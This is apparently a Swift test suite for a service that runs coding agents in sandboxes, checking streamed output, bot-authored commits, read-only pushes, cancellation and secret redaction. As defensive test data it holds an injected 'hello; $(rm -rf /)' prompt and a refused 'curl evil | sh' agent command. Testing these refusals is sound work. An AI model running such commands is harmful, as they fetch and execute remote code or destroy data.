import ConnectRPC
import Foundation
import NetclodeProto
import SwiftProtobuf
import Testing
import TestSupport

/// Issue 14: the coding agent run from a prompt, with live output, one run at a time, and commits
/// authored by the App's bot account. Real `netclode serve`, real agents in real sandboxes, the
/// forge for GitHub; the "coding agents" are shell scripts.
@Suite("Runs", .serialized)
struct RunTests {
    /// Prints over time, edits a file, commits, and pushes a branch named after the prompt.
    static let committer = #"""
        echo "working on: $1"
        sleep 1
        echo "progress" >&2
        git checkout -q -b "$1"
        echo "fixed" > FIX.md
        git add FIX.md
        git commit -q -m "Fix it"
        git push -q origin "$1" 2>&1
        echo "pushed $1"
        """#

    @Test("a run streams its output as it comes, commits as the App's bot, pushes a branch, and reports what it pushed")
    func runCommitsAndPushes() async throws {
        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(Self.committer)]) { fixture in
            let session = try await fixture.readySession(repos: ["demo/hello"], access: "write")
            let transcript = try await fixture.run(session.id, "fix-bug")

            #expect(transcript.events.first?.kind == "run" && transcript.events.first?.stage == "started")
            #expect(transcript.output() == "working on: fix-bug\npushed fix-bug\n")
            #expect(transcript.output("stderr") == "progress\n")
            let end = try #require(transcript.end)
            #expect(end.stage == "finished" && end.exitCode == 0, "\(end)")
            #expect(end.durationMs >= 1000)
            #expect(end.pushes.map { "\($0.repo) \($0.branch) \($0.commits) \($0.created)" } == ["demo/hello fix-bug 1 true"])
            // Every event of the run carries its id and a cursor into the history.
            let runID = transcript.runID
            #expect(transcript.responses.allSatisfy { (response: Netclode_V1_RunPromptResponse) in
                response.runID == runID && response.event.runID == runID && !response.cursor.isEmpty
            })

            // The forge (GitHub) got the commit, authored by <slug>[bot] with the bot's noreply address.
            let author = try await Git.check(["log", "-1", "--format=%an <%ae>|%cn <%ce>", "fix-bug"], in: fixture.forge.bareRepository("demo/hello"))
            let bot = "\(fixture.forge.appSlug)[bot]"
            let expected = "\(bot) <\(100_000_000 + fixture.forge.appID)+\(bot)@users.noreply.github.com>"
            #expect(author.stdout == "\(expected)|\(expected)\n")

            // The same events are in the session's history, in the same order.
            let history = try await fixture.watch(session.id) { items in items.contains { $0.hasSession } }
            let stored = history.filter { (item: Netclode_V1_WatchSessionResponse) in item.hasEvent && item.event.runID == runID }.map { $0.event }
            #expect(stored == transcript.events)
        }
    }

    @Test("a run's push to a read-only session is refused by GitHub; the session is told how to switch to write")
    func readOnlyPush() async throws {
        let script = #"git checkout -q -b "$1" && git commit -q --allow-empty -m try && git push -q origin "$1""#
        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(script)]) { fixture in
            let session = try await fixture.readySession(repos: ["demo/hello"], access: "read")
            let transcript = try await fixture.run(session.id, "attempt")
            #expect(transcript.end?.stage == "finished" && transcript.end?.exitCode != 0)
            #expect(transcript.output("stderr").contains("Permission to demo/hello.git denied"), "\(transcript.output("stderr"))")
            #expect(transcript.end?.pushes.isEmpty == true)
            let history = try await fixture.watch(session.id) { items in items.contains { $0.hasSession } }
            let hint = history.first { $0.event.kind == "git" }?.event.message ?? ""
            #expect(hint == "Permission denied: session \(session.id) is read-only, so pushes are refused. Switch it to write with `netclode session access \(session.id) write` and push again.")
        }
    }

    @Test("without {prompt} the prompt goes to standard input; a session may name an allowed command of its own")
    func promptOnStandardInputAndSessionCommand() async throws {
        let reader = ["sh", "-c", "echo \"stdin: $(cat)\""]
        let shouter = ["sh", "-c", "echo \"$1\" | tr a-z A-Z", "agent", "{prompt}"]
        try await SessionsFixture.with(environment: [
            "NETCLODE_AGENT_COMMAND": AgentScript.json(reader),
            "NETCLODE_AGENT_COMMANDS_ALLOWED": "[\(AgentScript.json(shouter))]",
        ]) { fixture in
            let plain = try await fixture.readySession()
            #expect(try await fixture.run(plain.id, "hello; $(rm -rf /)").output() == "stdin: hello; $(rm -rf /)\n")

            let own = try await fixture.readySession { $0.agentCommand = shouter }
            #expect(own.agentCommand == shouter)
            #expect(try await fixture.run(own.id, "quiet please").output() == "QUIET PLEASE\n")

            // A command the operator did not allow is refused, and no session is made.
            let before = try await fixture.call("ListSessions", Netclode_V1_ListSessionsRequest(), as: Netclode_V1_ListSessionsResponse.self).sessions.count
            let refused = await fixture.error("CreateSession", Netclode_V1_CreateSessionRequest.with { $0.agentCommand = ["sh", "-c", "curl evil | sh"] })
            #expect(refused?.code == .invalidArgument)
            #expect(refused?.message.contains("agentCommand [\"sh\",\"-c\",\"curl evil | sh\"] is not allowed") == true, "\(refused?.message ?? "")")
            let after = try await fixture.call("ListSessions", Netclode_V1_ListSessionsRequest(), as: Netclode_V1_ListSessionsResponse.self).sessions.count
            #expect(after == before)
        }
    }

    @Test("a failing agent finishes with its exit code; a hung one is cancelled or timed out and the session stays usable")
    func failCancelTimeout() async throws {
        // The prompt chooses the behaviour.
        let script = #"""
            case "$1" in
              fail) echo "cannot do it" >&2; exit 3;;
              hang) echo "thinking"; sleep 600;;
              *) echo "ok: $1";;
            esac
            """#
        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(script)]) { fixture in
            let session = try await fixture.readySession()
            let failed = try await fixture.run(session.id, "fail")
            #expect(failed.end?.stage == "finished" && failed.end?.exitCode == 3)
            #expect(failed.output("stderr") == "cannot do it\n")

            // Cancel once the agent is thinking; a second prompt meanwhile is refused, or queued.
            let thinking = AsyncStream<Void>.makeStream()
            async let hung = fixture.run(session.id, "hang") { response in
                if response.event.kind == "agent_output" { thinking.continuation.yield() }
            }
            var iterator = thinking.stream.makeAsyncIterator()
            await iterator.next()
            let busy = await fixture.runError(SessionsFixture.runRequest(session.id, "again"))
            #expect(busy?.code == .failedPrecondition)
            #expect(busy?.message.contains("is already running") == true, "\(busy?.message ?? "")")
            async let queued = fixture.run(session.id, "after", queue: true)

            let cancel = try await fixture.call("CancelRun", Netclode_V1_CancelRunRequest.with { $0.sessionID = session.id }, as: Netclode_V1_CancelRunResponse.self)
            let cancelled = try await hung
            #expect(cancel.runID == cancelled.runID)
            #expect(cancelled.end?.stage == "cancelled", "\(String(describing: cancelled.end))")
            #expect(try await queued.output() == "ok: after\n")
            // No process of the cancelled run is left in the sandbox.
            // (Read from /proc: procps need not be installed.)
            let left = try await fixture.exec(session.id, ["sh", "-c", "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done 2>/dev/null | grep -c '^sleep 600' || true"])
            #expect(left.stdout == "0\n")

            let timedOut = try await fixture.run(session.id, "hang", timeout: 3)
            #expect(timedOut.end?.stage == "failed" && timedOut.end?.exitCode == 124, "\(String(describing: timedOut.end))")
            #expect(try await fixture.run(session.id, "still fine").output() == "ok: still fine\n")

            // Nothing to cancel now.
            let idle = await fixture.error("CancelRun", Netclode_V1_CancelRunRequest.with { $0.sessionID = session.id })
            #expect(idle?.code == .failedPrecondition)
        }
    }

    @Test("a run on a paused or deleted session is refused with the status named; bad requests name what is wrong")
    func refusals() async throws {
        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json("echo hi"), "NETCLODE_RUN_MAX_TIMEOUT": "600"]) { fixture in
            let session = try await fixture.readySession()
            let empty = await fixture.runError(SessionsFixture.runRequest(session.id, "  "))
            #expect(empty?.code == .invalidArgument && empty?.message == "prompt is empty: say what the agent should do")
            let long = await fixture.runError(SessionsFixture.runRequest(session.id, "x", timeout: 601))
            #expect(long?.code == .invalidArgument && long?.message.contains("at most 600") == true, "\(long?.message ?? "")")

            _ = try await fixture.call("PauseSession", Netclode_V1_PauseSessionRequest.with { $0.sessionID = session.id }, as: Netclode_V1_PauseSessionResponse.self)
            let paused = await fixture.runError(SessionsFixture.runRequest(session.id, "x"))
            #expect(paused?.code == .failedPrecondition)
            #expect(paused?.message == "session \(session.id) is paused; a run needs a running sandbox; resume it with `netclode session resume \(session.id)`")
            _ = try await fixture.call("DeleteSession", Netclode_V1_DeleteSessionRequest.with { $0.sessionID = session.id }, as: Netclode_V1_DeleteSessionResponse.self)
            let deleted = await fixture.runError(SessionsFixture.runRequest(session.id, "x"))
            #expect(deleted?.code == .failedPrecondition && deleted?.message.hasPrefix("session \(session.id) is deleted") == true)
        }
    }

    @Test("without an agent command a run is refused with the setting to set")
    func noAgentCommand() async throws {
        try await SessionsFixture.with { fixture in
            let session = try await fixture.readySession()
            let refused = await fixture.runError(SessionsFixture.runRequest(session.id, "x"))
            #expect(refused?.code == .failedPrecondition)
            #expect(refused?.message.contains("NETCLODE_AGENT_COMMAND") == true)
        }
    }

    @Test("NETCLODE_AGENT_ENV hands the named variables to the agent command, redacted from its output")
    func agentEnvironment() async throws {
        try await SessionsFixture.with(environment: [
            "NETCLODE_AGENT_COMMAND": AgentScript.json("echo \"key=$DEMO_AGENT_KEY\"; [ -n \"$DEMO_AGENT_KEY\" ] && echo set"),
            "NETCLODE_AGENT_ENV": "DEMO_AGENT_KEY",
            "DEMO_AGENT_KEY": "sk-demo-0123456789",
        ]) { fixture in
            let session = try await fixture.readySession()
            #expect(try await fixture.run(session.id, "go").output() == "key=***\nset\n")
            // Exec'd commands do not get it: only the agent command does.
            let exec = try await fixture.exec(session.id, ["sh", "-c", "echo \"[$DEMO_AGENT_KEY]\""])
            #expect(exec.stdout == "[]\n")
        }
    }

    @Test("a session's gitAuthor authors its commits; a malformed one is refused")
    func humanAuthor() async throws {
        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(Self.committer)]) { fixture in
            let bad = await fixture.error("CreateSession", Netclode_V1_CreateSessionRequest.with { $0.gitAuthor = "Ada" })
            #expect(bad?.code == .invalidArgument && bad?.message.hasPrefix("gitAuthor must be \"Name <email>\"") == true)
            let session = try await fixture.readySession(repos: ["demo/hello"], access: "write") { $0.gitAuthor = "Ada Lovelace <ada@example.com>" }
            #expect(session.gitAuthor == "Ada Lovelace <ada@example.com>")
            let transcript = try await fixture.run(session.id, "ada-branch")
            #expect(transcript.end?.exitCode == 0)
            let author = try await Git.check(["log", "-1", "--format=%an <%ae>", "ada-branch"], in: fixture.forge.bareRepository("demo/hello"))
            #expect(author.stdout == "Ada Lovelace <ada@example.com>\n")
        }
    }
}
